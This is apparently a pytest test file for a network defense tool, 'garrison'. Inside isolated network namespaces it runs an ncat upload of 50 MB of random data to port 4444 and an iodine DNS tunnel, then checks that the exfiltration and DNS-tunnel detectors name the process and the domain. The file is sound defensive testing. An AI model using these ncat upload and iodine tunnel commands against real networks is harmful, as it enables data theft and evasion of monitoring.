"""Real tools between network namespaces: an upload by ncat and an iodine tunnel.

Traffic is recorded with tcpdump inside the defended namespace and replayed through the
analytics (the same path as ``garrison replay``); the connection sensor reads the namespaces'
real socket tables while the tools run, so the exfil alert can name the process.
"""

from __future__ import annotations

import ipaddress
import os
import select
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from garrison import analytics
from garrison.bus import EventBus
from garrison.config import GarrisonConfig
from garrison.detect.exfil import ExfilDetector
from garrison.engine import Garrison
from garrison.events import DNS_TUNNEL, EXFIL, Event
from garrison.sensors.connections import Connection, FlowBytes, SocketTable
from garrison.sensors.pcap import read_packets
from tests.support.netns import (
    DEFENDED_V4,
    DEFENDED_V6,
    OUTSIDE_V4,
    OUTSIDE_V6,
    Topology,
    require_root_tools,
    topology,
)

UPLOAD = 50 * 1024 * 1024  # bytes
CHUNK = 1024 * 1024


def read_until(stream: IO[bytes], text: str, timeout: float, proc: subprocess.Popen[bytes]
               ) -> str:
    """Read ``stream`` until ``text`` appears; fail after ``timeout`` seconds or at EOF (never
    blocks longer: select() before every read)."""
    deadline = time.monotonic() + timeout
    got = b""
    fd = stream.fileno()
    while text.encode() not in got:
        left = deadline - time.monotonic()
        if left <= 0:
            raise AssertionError(f"no {text!r} within {timeout}s; got {got[-500:]!r}")
        ready, _, _ = select.select([fd], [], [], left)
        if ready:
            chunk = os.read(fd, 4096)
            if not chunk:
                raise AssertionError(f"EOF (exit {proc.poll()}) before {text!r}: {got[-500:]!r}")
            got += chunk
    return got.decode(errors="replace")


def wait_for(what: str, check: Callable[[], Any], timeout: float = 15.0) -> Any:
    """Poll ``check`` until it returns something truthy, at most ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while True:
        got = check()
        if got:
            return got
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout}s waiting for {what}")
        time.sleep(0.05)


@pytest.fixture
def topo() -> Iterator[Topology]:
    require_root_tools("ncat", "tcpdump")
    with topology("ga") as t:
        yield t


class Capture:
    """tcpdump in a namespace, writing a pcap; ``stop()`` flushes and returns the path."""

    def __init__(self, topo: Topology, ns: str, iface: str, path: Path, bpf: str,
                 snaplen: int = 256) -> None:
        self.proc = topo.popen(ns, ["tcpdump", "-i", iface, "-s", str(snaplen), "-U", "-w",
                                    str(path), bpf],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        self.path = path
        assert self.proc.stderr is not None
        read_until(self.proc.stderr, "listening on", 20, self.proc)  # it captures from now on

    def stop(self) -> Path:
        self.proc.send_signal(signal.SIGINT)
        self.proc.wait(timeout=20)
        return self.path


def replay_with(path: Path, extra: list[Connection]) -> list[Event]:
    cfg = GarrisonConfig.model_validate({
        "home_net": [f"{DEFENDED_V4}/32", f"{DEFENDED_V6}/128"],
        "connections": {"enabled": False},
    })
    engine = Garrison(cfg, bus=EventBus())
    analytics.install(engine)
    items: list[Any] = [*read_packets(path), *extra]
    items.sort(key=lambda o: o.ts)
    events: list[Event] = []
    for obs in items:
        events += engine.feed(obs)
    return events + engine.finish()


@pytest.mark.root
@pytest.mark.parametrize("target", [OUTSIDE_V4, OUTSIDE_V6], ids=["ipv4", "ipv6"])
def test_upload_to_odd_port_names_pid_and_command_line(
    topo: Topology, tmp_path: Path, target: str
) -> None:
    port = 4444
    sink = topo.popen(topo.outside, ["ncat", "-l", "-k", str(port), "--recv-only"],
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    table = SocketTable()
    try:
        wait_for("the listener", lambda: any(
            e.local_port == port and e.state == 10 for _ns, e in table.sockets()))
        cap = Capture(topo, topo.defended, topo.defended_if, tmp_path / "up.pcap",
                      f"tcp port {port}")
        table.poll(time.time())
        sender = topo.popen(topo.defended, ["ncat", target, str(port), "--send-only"],
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
        seen: list[Connection] = []

        def sender_socket() -> list[Connection]:
            seen.extend(table.poll(time.time()))
            return [c for c in seen if c.pid == sender.pid and c.remote_port == port]

        conns = wait_for("ncat's socket in the defended namespace", sender_socket)
        c = conns[0]
        assert ipaddress.ip_address(c.remote_addr) == ipaddress.ip_address(target)
        assert c.direction == "outbound" and c.process_name == "ncat"
        assert sender.stdin is not None
        block = os.urandom(CHUNK)
        for _ in range(UPLOAD // CHUNK):
            sender.stdin.write(block)
        sender.stdin.close()
        assert sender.wait(timeout=60) == 0
        path = cap.stop()
    finally:
        sink.kill()
        sink.wait(timeout=10)
    events = [e for e in replay_with(path, seen) if e.name == EXFIL]
    assert events, "no exfil event for a 50 MB upload"
    big = events[-1]
    assert big.detail["type"] == "large-upload"
    assert big.detail["pid"] == sender.pid
    assert "ncat" in big.detail["command_line"] and target in big.detail["command_line"]
    assert ipaddress.ip_address(big.destination_ip or "") == ipaddress.ip_address(target)
    assert big.destination_port == port and big.detail["ip"] == big.destination_ip


@pytest.mark.root
def test_live_iodine_tunnel_is_caught(topo: Topology, tmp_path: Path) -> None:
    require_root_tools("iodine", "iodined")
    if not os.path.exists("/dev/net/tun"):
        pytest.skip("needs /dev/net/tun for iodine")
    # 512 bytes hold any DNS name; at the default 256 iodine's longest queries are cut (counted
    # as truncated) and only its shorter ones are scored.
    cap = Capture(topo, topo.defended, topo.defended_if, tmp_path / "dns.pcap", "port 53",
                  snaplen=512)
    server = topo.popen(topo.defended, ["iodined", "-f", "-l", DEFENDED_V4, "-P", "garrison",
                                        "10.53.0.1/27", "t.tun.test"],
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    client = None
    try:
        table = SocketTable()
        wait_for("iodined listening", lambda: any(
            e.proto == "udp" and e.local_port == 53 for _ns, e in table.sockets()))
        # -r: no raw UDP mode, so everything really goes through DNS queries.
        client = topo.popen(topo.outside, ["iodine", "-f", "-r", "-P", "garrison", DEFENDED_V4,
                                           "t.tun.test"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        assert client.stderr is not None
        read_until(client.stderr, "Connection setup complete", 60, client)
        # Push some data through the tunnel.
        topo.run(topo.outside, ["ping", "-c", "20", "-i", "0.05", "-s", "800", "10.53.0.1"],
                 check=False, timeout=60)
    finally:
        for proc in (client, server):
            if proc is not None:
                proc.kill()
                proc.wait(timeout=10)
        path = cap.stop()
    events = [e for e in replay_with(path, []) if e.name == DNS_TUNNEL]
    packets = sum(1 for _ in read_packets(path))
    assert len(events) == 1, f"{len(events)} dns-tunnel events from {packets} packets"
    d = events[0].detail
    assert d["domain"] == "t.tun.test" and d["client"] == OUTSIDE_V4 and d["ip"] == OUTSIDE_V4


@pytest.mark.root
def test_upload_seen_by_kernel_counters_alone(topo: Topology) -> None:
    """No packet capture at all: the socket tables name the process, the kernel's per-socket
    counters (read inside the defended namespace) give the bytes."""
    port = 4444
    sink = topo.popen(topo.outside, ["ncat", "-l", "-k", str(port), "--recv-only"],
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    table = SocketTable()
    observations: list[Any] = []
    try:
        wait_for("the listener", lambda: any(
            e.local_port == port and e.state == 10 for _ns, e in table.sockets()))
        table.poll(time.time())
        table.byte_counts(time.time())  # the baseline
        sender = topo.popen(topo.defended, ["ncat", OUTSIDE_V4, str(port), "--send-only"],
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)

        def sender_socket() -> list[Connection]:
            observations.extend(table.poll(time.time()))
            return [c for c in observations
                    if isinstance(c, Connection) and c.pid == sender.pid]

        conn = wait_for("ncat's socket", sender_socket)[0]
        assert sender.stdin is not None
        block = os.urandom(CHUNK)
        for _ in range(UPLOAD // CHUNK):
            sender.stdin.write(block)
        sender.stdin.flush()

        def counted() -> bool:
            observations.extend(table.byte_counts(time.time()))
            return sum(b.bytes_out for b in observations if isinstance(b, FlowBytes)
                       and b.local_port == conn.local_port) >= UPLOAD

        wait_for("the kernel counting 50 MB", counted, timeout=60)
        sender.stdin.close()
        assert sender.wait(timeout=60) == 0
    finally:
        sink.kill()
        sink.wait(timeout=10)
        table.close()
    det = ExfilDetector([f"{DEFENDED_V4}/32"])
    events = [e for o in sorted(observations, key=lambda o: o.ts) for e in det.observe(o)]
    events += det.flush(time.time() + 60)
    big = [e for e in events if e.detail["type"] == "large-upload"]
    assert big and big[0].detail["pid"] == sender.pid
    assert "ncat" in big[0].detail["command_line"]
    assert big[0].destination_ip == OUTSIDE_V4 and big[0].destination_port == port
